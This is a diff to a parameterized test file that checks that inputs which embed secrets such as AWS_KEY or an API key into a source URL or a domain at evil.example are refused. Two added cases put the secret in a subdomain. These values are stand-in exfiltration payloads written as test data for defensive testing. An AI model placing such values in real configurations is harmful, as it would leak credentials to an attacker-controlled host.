@@ -378,7 +378,9 @@ describe("what is the person's or the workspace's", () => {
     ['source-ref: "${{ vars.AWS_KEY }}"', '--source-ref'],
     ['options: "SourceUrl: https://evil.example/${{ secrets.AWS_KEY }}/x"', '--set SourceUrl='],
     ['options: "{ SourceUrl: \'https://evil.example/{{secrets.apikey}}\' }"', '--set SourceUrl='],
-  ])('becomes no part of the address of a source: %s', async (inputs, option) => {
+    ['domain: "${{ vars.AWS_KEY }}.evil.example"', '--domain'],
+    ['domain: "{{secrets.apikey}}.evil.example"', '--domain'],
+  ])('becomes no part of the address of a source, nor of a domain: %s', async (inputs, option) => {
     for (const argv of [['plan'], deploy, ['run', '--no-wait']]) {
       const started = clone(evil, `${names('evil')}, ${inputs}`, { env, confirmed: true });
       const refusal = await run(started, ...argv);
